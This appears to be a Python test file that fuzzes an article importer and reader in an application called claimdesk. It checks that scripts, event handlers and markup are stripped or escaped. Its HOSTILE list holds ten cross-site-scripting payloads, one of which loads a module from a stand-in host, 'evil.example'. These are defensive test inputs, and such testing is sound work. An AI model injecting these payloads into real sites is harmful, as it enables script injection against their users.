"""Article HTML is never executed and never reaches the reader as markup.

The importers keep only reading text: scripts, styles, event handlers and markup are gone.
The reader (claimdesk/gui/reader/reader_text.py) fills its document with ``setPlainText``, so even
a text that spells out ``<script>`` is shown as those characters, never parsed as HTML; the
last test holds it to that. Search snippets, the one place that adds ``<b>``, escape the rest.
"""

from __future__ import annotations

import tempfile
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from claimdesk.core import importers
from claimdesk.core.desk import Desk
from claimdesk.core.errors import ClaimDeskError
from claimdesk.core.library import folder_location
from tests.conftest import REPO
from tests.fuzz.conftest import bounded

SCRATCH = Path(tempfile.mkdtemp(prefix="claimdesk-fuzz-html-"))
BODY = "Il ministro ha negato di aver firmato l'accordo sul grano nel marzo 2023."
HOSTILE = [
    "<script>alert('XSS1')</script>",
    "<script type='module'>import('//evil.example/XSS2.js')</script>",
    "<img src=x onerror=\"alert('XSS3')\">",
    "<a href=\"javascript:alert('XSS4')\" onclick=\"alert('XSS5')\">link</a>",
    "<svg onload=\"alert('XSS6')\"><script>alert('XSS7')</script></svg>",
    "<iframe srcdoc=\"<script>alert('XSS8')</script>\"></iframe>",
    "<style>body{background:url('javascript:alert(XSS9)')}</style>",
    "<body onload=\"alert('XSS10')\">",
    "<noscript><p onmouseover=\"alert('XSS11')\">x</p></noscript>",
    "<object data=\"javascript:alert('XSS12')\"></object>",
]


def _page(pieces: list[str]) -> str:
    paragraphs = "".join(f"<p>{BODY} {i}</p>{piece}" for i, piece in enumerate(pieces))
    return f"<html><head><title>Grano</title>{pieces[0]}</head><body>{paragraphs}</body></html>"


def _imported_text(page: str) -> str | None:
    path = SCRATCH / "page.html"
    path.write_text(page, encoding="utf-8")
    with bounded():
        try:
            return importers.read_file(path).text
        except ClaimDeskError:
            return None


def test_scripts_and_event_handlers_never_reach_the_article_text() -> None:
    text = _imported_text(_page(HOSTILE))
    assert text is not None and BODY in text
    assert "XSS" not in text and "alert" not in text and "javascript:" not in text
    assert "<" not in text and "onerror" not in text and "onload" not in text


@given(pieces=st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=6), seed=st.text(max_size=40))
def test_hostile_markup_in_any_arrangement_is_dropped(pieces: list[str], seed: str) -> None:
    text = _imported_text(_page([*pieces, f"<p>{seed}</p>"]))
    if text is not None:
        assert "XSS" not in text.replace(seed, "")
        assert "alert(" not in text.replace(seed, "")


def test_markup_spelt_out_in_a_text_stays_text_and_snippets_escape_it(tmp_path: Path) -> None:
    spelt = "Il portavoce ha scritto <script>alert('ciao')</script> e <b>grassetto</b> nel post."
    path = tmp_path / "post.txt"
    path.write_text(spelt + "\n", encoding="utf-8")
    with Desk.open(folder_location(tmp_path / "library")) as desk:
        article_id = desk.import_file(path).id
        assert article_id
        assert desk.get_article(article_id).text == spelt  # shown as written, not run
        [hit] = desk.search("portavoce").hits
    assert "<script>" not in hit.snippet and "&lt;script&gt;" in hit.snippet
    assert "<b>grassetto</b>" not in hit.snippet


def test_the_reader_shows_plain_text_never_html() -> None:
    source = (REPO / "claimdesk" / "gui" / "reader" / "reader_text.py").read_text(encoding="utf-8")
    assert "setPlainText(article.text)" in source
    for call in ("setHtml(", "insertHtml(", "setMarkdown(", "fromHtml("):
        assert call not in source, f"the reader must not parse article text as markup: {call}"
